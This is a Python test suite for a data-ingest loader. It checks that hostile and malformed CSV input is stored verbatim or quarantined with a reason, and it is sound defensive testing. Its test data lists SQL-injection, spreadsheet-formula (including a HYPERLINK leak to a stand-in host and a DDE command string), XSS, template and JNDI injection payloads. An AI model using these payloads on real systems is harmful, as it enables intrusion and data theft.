"""Hostile and broken input (docs/sources.md, "Bad input"): with real files through the real loader
into the real warehouse, each case ends loaded exactly as delivered or quarantined with a reason
that names the file, the line and the rule, and the ledger reconciles: no crash, no hang.

The cases: SQL, spreadsheet-formula, markup and template metacharacters in every free-text field
of every source (loaded verbatim as data, never executed), mixed line endings, a field far beyond
any real value, a header of 100,000 columns, and a file far larger than its manifest says.
"""

from __future__ import annotations

import secrets
from pathlib import Path
from typing import Any

import psycopg
import pytest
from support.ingest_kit import (
    PSEUDONYMISE,
    csv_bytes,
    enrolment_row,
    job_row,
    ledger,
    problems,
    prom_row,
    quarantined,
    reconciles,
    rewrite_manifest,
    spell_row,
    write_delivery,
)

from outcomes.ingest.loader import DeliveryOutcome, apply_delivery
from outcomes.ingest.service import loader_connection
from outcomes.settings import Settings

#: What an attacker, or an unlucky clerk, might type into a free-text field.
HOSTILE = (
    "'; drop table raw.trial_enrolment; --",
    "x'); delete from meta.deliveries; --",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %}",
    "${jndi:ldap://example.invalid/a}",
    "%s%n%x \\N \\. \\",
    'a "quoted", comma',
)


def apply(settings: Settings, folder: Path) -> DeliveryOutcome:
    with loader_connection(settings) as conn:
        return apply_delivery(conn, folder, pseudonymise=PSEUDONYMISE)


def stored(db: psycopg.Connection, table: str, column: str, delivery_id: str) -> list[Any]:
    query = f"select {column} from {table} where delivery_id = %s order by source_line"
    return [r[0] for r in db.execute(query, (delivery_id,))]


def test_metacharacters_in_every_free_text_field_are_data_never_executed(
    settings: Settings, landing: Path, db: psycopg.Connection
) -> None:
    """site (trial), form_id (registry), spell_id (welfare), job_id (employment): every value is
    stored byte for byte, and every table the statements name is still there."""
    people = [enrolment_row(site=value) for value in HOSTILE]
    trial = write_delivery(landing, "trial", {"enrolment.csv": people})
    assert apply(settings, trial).status == "loaded"
    assert stored(db, "raw.trial_enrolment", "site", trial.name) == list(HOSTILE)

    fnrs = [person["fnr"] for person in people]
    registry = write_delivery(
        landing,
        "registry",
        {"proms.csv": [prom_row(form_id=value, fnr=fnr) for value, fnr in zip(HOSTILE, fnrs, strict=True)]},
    )
    welfare = write_delivery(
        landing,
        "welfare",
        {
            "benefit_spells.csv": [
                spell_row(spell_id=value, fnr=fnr) for value, fnr in zip(HOSTILE, fnrs, strict=True)
            ]
        },
    )
    employment = write_delivery(
        landing,
        "employment",
        {
            "jobs.csv": [
                job_row(person["participant_id"], job_id=value)
                for value, person in zip(HOSTILE, people, strict=True)
            ],
            "checkpoints.csv": [],
        },
    )
    for folder, table, column in (
        (registry, "raw.registry_proms", "form_id"),
        (welfare, "raw.welfare_benefit_spells", "spell_id"),
        (employment, "raw.employment_jobs", "job_id"),
    ):
        outcome = apply(settings, folder)
        assert (outcome.status, outcome.rows_loaded) == ("loaded", len(HOSTILE)), outcome
        assert stored(db, table, column, folder.name) == list(HOSTILE)
    for table in ("raw.trial_enrolment", "meta.deliveries", "raw.registry_proms"):
        assert db.execute(f"select count(*) from {table}").fetchone()[0] > 0


def test_mixed_line_endings_load_every_row(settings: Settings, landing: Path, db: psycopg.Connection) -> None:
    rows = [enrolment_row() for _ in range(6)]
    lines = csv_bytes("enrolment.csv", rows).split(b"\n")
    mixed = b"".join(line + (b"\r\n" if i % 2 else b"\n") for i, line in enumerate(lines[:-1]))
    folder = write_delivery(landing, "trial", {"enrolment.csv": mixed})
    outcome = apply(settings, folder)
    assert (outcome.status, outcome.rows_loaded, outcome.rows_quarantined) == ("loaded", 6, 0)
    assert stored(db, "raw.trial_enrolment", "participant_id", folder.name) == [
        r["participant_id"] for r in rows
    ]


def _quarantined_with_reason(
    db: psycopg.Connection, source: str, folder: Path, outcome: DeliveryOutcome, rule: str
) -> list[dict[str, Any]]:
    assert outcome.status == "quarantined", outcome
    entry = ledger(db, source, folder.name)
    assert entry is not None and entry["status"] == "quarantined" and reconciles(entry)
    assert entry["rows_loaded"] == entry["rows_pending"] == 0
    found = [p for p in problems(db, source, folder.name) if p["rule"] == rule]
    assert found, problems(db, source, folder.name)
    return found


def test_a_field_far_beyond_any_real_value_quarantines_the_delivery_naming_the_line(
    settings: Settings, landing: Path, db: psycopg.Connection
) -> None:
    """A 20 MB site name (the CSV reader's field limit is 128 KiB): refused as not parseable, with
    the line; nothing of the delivery loaded."""
    rows = [enrolment_row() for _ in range(4)]
    rows[2]["site"] = "B" * 20_000_000
    folder = write_delivery(landing, "trial", {"enrolment.csv": rows})
    found = _quarantined_with_reason(db, "trial", folder, apply(settings, folder), "csv_parse")
    assert [(p["file"], p["line"]) for p in found] == [("enrolment.csv", 4)]
    assert "line 4" in found[0]["message"] and "enrolment.csv" in found[0]["message"]


def test_a_header_of_100000_columns_quarantines_the_delivery_naming_the_columns(
    settings: Settings, landing: Path, db: psycopg.Connection
) -> None:
    rows = [enrolment_row() for _ in range(3)]
    extra = [f"c{i}" for i in range(100_000)]
    header = [*rows[0], *extra]
    folder = write_delivery(landing, "trial", {"enrolment.csv": csv_bytes("enrolment.csv", rows, header)})
    found = _quarantined_with_reason(db, "trial", folder, apply(settings, folder), "header_extra_column")
    assert {p["file"] for p in found} == {"enrolment.csv"}
    assert {p["line"] for p in found} == {1}
    # the first 20 named one by one, the other 99,980 counted in one more problem
    assert sorted(p["column_name"] for p in found if p["column_name"]) == sorted(f"c{i}" for i in range(20))
    (counted,) = [p for p in found if p["column_name"] is None]
    assert "99,980 more like the 20 above" in counted["message"] and "100,000 in all" in counted["message"]
    kept = quarantined(db, "trial", folder.name)
    assert len(kept) == 3  # every row received is kept, with the reason


def test_a_file_far_larger_than_its_manifest_says_quarantines_the_delivery(
    settings: Settings, landing: Path, db: psycopg.Connection
) -> None:
    """The manifest describes 3 rows; the file the source left holds 50,000: refused on the row
    count and the checksum, every row kept in quarantine."""
    small = [enrolment_row() for _ in range(3)]
    folder = write_delivery(landing, "trial", {"enrolment.csv": small})
    big = [enrolment_row() for _ in range(50_000)]
    (folder / "enrolment.csv").write_bytes(csv_bytes("enrolment.csv", big))
    rewrite_manifest(folder, lambda doc: None)  # the manifest still says 3 rows and their sha256
    outcome = apply(settings, folder)
    rules = {p["rule"] for p in problems(db, "trial", folder.name)}
    assert {"row_count_mismatch", "sha256_mismatch"} <= rules, rules
    assert outcome.status == "quarantined"
    entry = ledger(db, "trial", folder.name)
    assert entry is not None and reconciles(entry) and entry["rows_loaded"] == 0
    assert entry["rows_received"] == 50_000
    assert len(quarantined(db, "trial", folder.name)) == 50_000  # every row kept, with the reason


#: The hostile values a CSV writer leaves unquoted: a file of them is plain, for the columnar path.
PLAIN = tuple(value for value in HOSTILE if '"' not in value and "," not in value)


def test_metacharacters_on_the_columnar_path_are_data_too(
    settings: Settings, landing: Path, db: psycopg.Connection, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A plain registry file (no quoting) is checked by the columnar path, and loaded direct: the
    same values come out byte for byte."""
    from outcomes.contracts import columnar

    results: list[Any] = []
    check_file = columnar.check_file

    def spy(*args: Any, **kwargs: Any) -> Any:
        results.append(check_file(*args, **kwargs))
        return results[-1]

    monkeypatch.setattr(columnar, "check_file", spy)
    folder = write_delivery(landing, "registry", {"proms.csv": [prom_row(form_id=value) for value in PLAIN]})
    outcome = apply(settings, folder)
    assert (outcome.status, outcome.rows_loaded + outcome.rows_pending) == ("loaded", len(PLAIN)), outcome
    assert results and all(result is not None for result in results), "the columnar path did not run"
    held = [
        r[0]
        for r in db.execute(
            "select form_id from pending.registry_proms where delivery_id = %s order by source_line",
            (folder.name,),
        )
    ]
    assert held == list(PLAIN)


def test_a_long_field_is_refused_the_same_on_the_columnar_path(
    settings: Settings, landing: Path, db: psycopg.Connection
) -> None:
    """200,000 characters in a plain registry file's form_id: over the row path's field limit
    (128 KiB), so refused by both paths alike, with the line."""
    rows = [prom_row() for _ in range(4)]
    rows[1]["form_id"] = "F" * 200_000
    folder = write_delivery(landing, "registry", {"proms.csv": rows})
    found = _quarantined_with_reason(db, "registry", folder, apply(settings, folder), "csv_parse")
    assert [(p["file"], p["line"]) for p in found] == [("proms.csv", 3)]


@pytest.mark.parametrize(
    ("file", "start", "tail"),
    [
        ("proms.csv", b"", b"A"),  # no line end: the columnar path, then the row path
        ("enrolment.csv", b"", b"A"),  # the row path
        ("proms.csv", b'"', b"x\n"),  # a quote never closed: one record of ever more lines
    ],
)
def test_a_line_or_record_with_no_end_is_refused_in_memory_flat_in_its_length(
    settings: Settings, landing: Path, db: psycopg.Connection, file: str, start: bytes, tail: bytes
) -> None:
    """Two good rows, then 64 or 128 MiB of a line with no end, or of one record that never ends:
    refused at the line where it starts, as longer than any valid one, and never held whole: the
    peak of Python's allocations while the loader applies the delivery is the same for both
    lengths (after a first, shorter one that imports what the paths use)."""
    import tracemalloc

    source, rows = ("registry", [prom_row()] * 2) if file == "proms.csv" else ("trial", [enrolment_row()] * 2)
    peaks = []
    for mib in (17, 64, 128):
        data = csv_bytes(file, rows) + start + tail * ((mib << 20) // len(tail))
        folder = write_delivery(landing, source, {file: data})
        del data
        tracemalloc.start()
        try:
            outcome = apply(settings, folder)
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()
        found = _quarantined_with_reason(db, source, folder, outcome, "csv_parse")
        assert [(p["file"], p["line"]) for p in found] == [(file, 4)]
        assert "longer than any valid one" in found[0]["message"]
    assert peaks[2] - peaks[1] < 4 << 20, [peak >> 20 for peak in peaks]  # 64 MiB more read, not held


def test_the_row_path_reads_a_remote_file_that_has_no_sized_readline() -> None:
    """fsspec's remote files (s3fs, gcsfs ...) take no size in readline(): the row path reads them."""
    import hashlib

    from fsspec.spec import AbstractBufferedFile, AbstractFileSystem

    from outcomes.contracts.check import _Lines

    data = b"a,b\n1,2\n3,4"

    class Remote(AbstractBufferedFile):  # type: ignore[misc]
        def _fetch_range(self, start: int, end: int) -> bytes:
            return data[start:end]

    remote = Remote(AbstractFileSystem(), "bucket/f.csv", mode="rb", size=len(data), cache_type="none")
    with pytest.raises(TypeError):
        remote.readline(10)  # what the row path must not ask of it
    hasher = hashlib.sha256()
    assert list(_Lines(remote, hasher)) == ["a,b\n", "1,2\n", "3,4"]
    assert hasher.hexdigest() == hashlib.sha256(data).hexdigest()


def test_a_key_too_long_for_the_warehouse_quarantines_the_delivery_not_a_crash(
    settings: Settings, landing: Path, db: psycopg.Connection
) -> None:
    """A form_id of 6,000 characters passes the contract but not PostgreSQL's limit on an index
    entry (about 2,700 bytes): the whole delivery is quarantined with the warehouse's reason."""
    person = enrolment_row()
    assert apply(settings, write_delivery(landing, "trial", {"enrolment.csv": [person]})).status == "loaded"
    long_id = secrets.token_hex(3_000)  # incompressible: TOAST cannot shrink it under the limit
    rows = [prom_row(fnr=person["fnr"]), prom_row(fnr=person["fnr"], form_id=long_id)]
    folder = write_delivery(landing, "registry", {"proms.csv": rows})
    found = _quarantined_with_reason(db, "registry", folder, apply(settings, folder), "warehouse_rejected")
    assert "index row size" in found[0]["message"] and long_id not in found[0]["message"]
    assert len(quarantined(db, "registry", folder.name)) == 2
